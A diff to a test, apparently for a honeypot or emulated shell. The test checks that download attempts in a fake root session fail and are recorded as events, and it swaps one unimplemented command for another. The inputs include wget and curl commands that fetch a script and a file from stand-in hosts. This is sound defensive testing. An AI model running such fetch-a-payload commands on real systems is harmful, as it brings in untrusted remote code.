@@ -14,8 +14,8 @@ test('an attempt to download is told of and fails, and a program that is not imi
   const shell = openShell({ profile: makeProfile('downloads'), user: 'root', from: '192.0.2.1', host });
   expect(await shell.exec('wget http://192.0.2.7/a.sh')).toBe(4);
   expect(await shell.exec('curl -O files.example/b')).toBe(6);
-  expect(await shell.exec('telinit 6')).toBe(127);
-  expect(output).toContain('telinit: command not found');
+  expect(await shell.exec('docker ps')).toBe(127);
+  expect(output).toContain('docker: command not found');
   expect(events.filter(({ kind }) => kind === 'download').map(({ url }) => url)).toEqual([
     'http://192.0.2.7/a.sh',
     'http://files.example/b',
